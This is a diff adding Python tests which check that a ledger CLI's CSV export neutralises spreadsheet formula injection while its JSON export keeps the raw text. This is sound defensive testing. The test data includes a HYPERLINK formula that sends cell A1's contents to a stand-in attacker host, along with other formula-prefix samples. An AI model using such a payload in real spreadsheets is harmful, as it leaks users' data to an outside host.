@@ -1,0 +1,40 @@
+"""Output: CSV cells a spreadsheet would run as formulas are neutralised; JSON keeps the text."""
+
+from __future__ import annotations
+
+import json
+from decimal import Decimal
+
+from typer.testing import CliRunner
+
+from computeledger import output
+from computeledger.cli import app
+from tests.conftest import read_rows, write_rows
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def test_csv_neutralises_formulas_and_keeps_numbers():
+    table = output.from_rows([
+        {"name": EVIL, "other": "+1", "at": "@SUM(A1)", "minus": "-2+3", "amount": Decimal("-5.25"), "n": -3},
+        {"name": "plain", "other": "a=b", "at": None, "minus": "x", "amount": Decimal("1"), "n": 2},
+    ])  # fmt: skip
+    lines = output.to_csv(table).splitlines()
+    assert lines[1] == '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",\'+1,\'@SUM(A1),\'-2+3,-5.25,-3'
+    assert lines[2] == "plain,a=b,,x,1.00,2"
+    assert json.loads(output.to_json(table))[0]["name"] == EVIL
+
+
+def test_summary_csv_of_a_hostile_provider_name(tmp_path, sample):
+    header, rows = read_rows(sample)
+    col = header.index("ProviderName")
+    rows = [r[:col] + [EVIL] + r[col + 1 :] for r in rows[:5]]
+    bill = write_rows(tmp_path / "evil.csv", header, rows)
+    ledger = str(tmp_path / "l.duckdb")
+    runner = CliRunner()
+    assert runner.invoke(app, ["ingest", str(bill), "--ledger", ledger]).exit_code == 0
+    r = runner.invoke(app, ["summary", "--by", "provider", "--format", "csv", "--ledger", ledger])
+    assert r.exit_code == 0
+    assert all(not line.startswith("=") and ',"=' not in line for line in r.output.splitlines())
+    r = runner.invoke(app, ["summary", "--by", "provider", "--format", "json", "--ledger", ledger])
+    assert json.loads(r.output)[0]["provider"] == EVIL
